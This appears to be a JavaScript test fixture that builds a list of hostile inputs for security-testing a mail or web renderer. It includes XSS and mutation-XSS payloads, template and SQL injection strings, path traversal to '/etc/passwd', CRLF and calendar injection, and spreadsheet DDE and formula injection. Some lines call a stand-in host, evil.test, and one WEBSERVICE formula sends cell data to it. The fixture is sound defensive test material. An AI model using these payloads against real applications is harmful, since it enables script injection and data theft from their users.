// Texts that wish us ill: what a mail or a page may say in any of its fields.

/** What would run, were it taken for anything but text. `window.pwned` tells of it. */
const MARKUP = [
  '<script>window.pwned=1</script>', '<img src=x onerror="window.pwned=1">', '<svg onload=window.pwned=1>', '<svg><script>window.pwned=1</script></svg>',
  '"><img src=x onerror=window.pwned=1>', "'><svg/onload=window.pwned=1>", '</textarea><script>window.pwned=1</script>', '</title><img src=x onerror=window.pwned=1>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>', '<iframe src="javascript:parent.pwned=1"></iframe>', '<object data="data:text/html,<script>parent.pwned=1</script>">',
  '<embed src="javascript:window.pwned=1">', '<a href="javascript:window.pwned=1" autofocus>x</a>', '<form action="javascript:window.pwned=1"><button autofocus>x', '<input autofocus onfocus=window.pwned=1>',
  '<details open ontoggle=window.pwned=1>', '<video><source onerror=window.pwned=1></video>', '<body onload=window.pwned=1>', '<marquee onstart=window.pwned=1>', '<meta http-equiv=refresh content="0;url=javascript:window.pwned=1">',
  '<base href="https://evil.test/">', '<link rel=stylesheet href="https://evil.test/a.css">', '<link rel=import href="https://evil.test/a.html">', '<style>*{display:none!important}</style>', '<style>@import url(https://evil.test/a.css);</style>',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:red">', '<div style="background:url(https://evil.test/p.png)">', '<template><script>window.pwned=1</script></template>', '<slot name=x onslotchange=window.pwned=1>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.pwned=1&gt;">', '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>">',
  '<svg></p><style><a id="</style><img src=x onerror=window.pwned=1>">', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>', '<!--<img src="--><img src=x onerror=window.pwned=1//">',
  '<xmp><p title="</xmp><svg/onload=window.pwned=1>">', '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=window.pwned=1>', '<![CDATA[<img src=x onerror=window.pwned=1>]]>',
  '<x contenteditable onblur=window.pwned=1 autofocus>', '<button popovertarget=x>y</button><xss id=x popover onbeforetoggle=window.pwned=1>', '<dialog open onclose=window.pwned=1>', '&lt;img src=x onerror=window.pwned=1&gt;', '&#60;script&#62;window.pwned=1&#60;/script&#62;',
];
/** Addresses and expressions. */
const TALK = [
  'javascript:window.pwned=1', 'JaVaScRiPt:window.pwned=1', 'data:text/html,<script>window.pwned=1</script>', 'vbscript:msgbox(1)', 'https://evil.test/?q=', '//evil.test/x', 'file:///etc/passwd', 'chrome://settings', 'moz-extension://x/card.html',
  '{{constructor.constructor("window.pwned=1")()}}', '${window.pwned=1}', '#{window.pwned=1}', '<%= window.pwned=1 %>', '`;window.pwned=1;`', "';window.pwned=1;//", '";window.pwned=1;//', '\\u003cscript\\u003ewindow.pwned=1', 'expression(window.pwned=1)', 'url(javascript:window.pwned=1)',
  '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '__defineGetter__', '{"__proto__":{"pwned":1}}', '[object Object]', 'undefined', 'null', 'NaN', '-0', '1e309', '../../etc/passwd', '%00', '%0d%0aSet-Cookie:x', "' OR 1=1 --", '{"askback":"end","events":0}',
];
/** What a spreadsheet would run, or read as more than a cell. */
const SHEETS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("https://evil.test","x")', "=cmd|' /C calc'!A0", '=WEBSERVICE("https://evil.test/"&A1)', '=IMPORTXML("https://evil.test","//a")', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20SUM(1)', '%0A=1+1',
  '";=1+1;"', '",=1+1,"', '"\r\n=1+1', 'x\r\n=1+1', 'x\n"=1+1', "'=1+1", '|calc', ';=1+1', 'DDE("cmd";"/C calc";"x")', '\u202e=1+1',
];
/** What a calendar would read as lines of its own. */
const CALENDARS = ['\r\nBEGIN:VALARM\r\nACTION:PROCEDURE', '\nEND:VEVENT\nBEGIN:VEVENT', 'x\\nEND:VCALENDAR', 'ATTACH:https://evil.test', 'x;ALTREP="https://evil.test":y', '\u2028END:VEVENT', '\u0085END:VEVENT', `${'x'.repeat(74)}\u{1f600}y`, `${'é'.repeat(80)}`, '\\', '\\\\;,', ':;,"'];
/** Letters that are none, that hide, or that turn the rest around. */
const LETTERS = ['\u202eevil', '\u2066a\u2069b', '\u200b\u200c\u200d', '\u0000', '\u0007\u001b[31m', '\ud800', 'a\udc00b', '\ufffe\uffff', '\u{10ffff}', 'Z\u0361\u0362\u0363a\u0361l\u0362go'.repeat(30), '\u{e0041}\u{e0042}', 'раураl.com', '👩‍👩‍👧‍👦'.repeat(50), '\u00ad'.repeat(100), '\ufdfd'.repeat(50), '\u0640'.repeat(300), '\u061c\u200e\u200f'];
const LONG = ['x'.repeat(1_900), 'x y '.repeat(450), '<b>'.repeat(600), '"'.repeat(1_000), '\n'.repeat(1_000), '('.repeat(1_900), 'a@'.repeat(900), '> '.repeat(900)];

const BASE = [...MARKUP, ...TALK, ...SHEETS, ...CALENDARS, ...LETTERS, ...LONG];
/** Each alone, within a sentence, and behind what would end an attribute or a string. */
const WAYS = [(/** @type {string} */ text) => text, (/** @type {string} */ text) => `Could you send us ${text} by Friday?`, (/** @type {string} */ text) => `${text}${text}`, (/** @type {string} */ text) => `x"'>${text}<!--`];

/** At least 500 of them. @type {string[]} */
export const PAYLOADS = BASE.flatMap((text) => WAYS.map((way) => way(text))).map((text) => text.slice(0, 1_900));
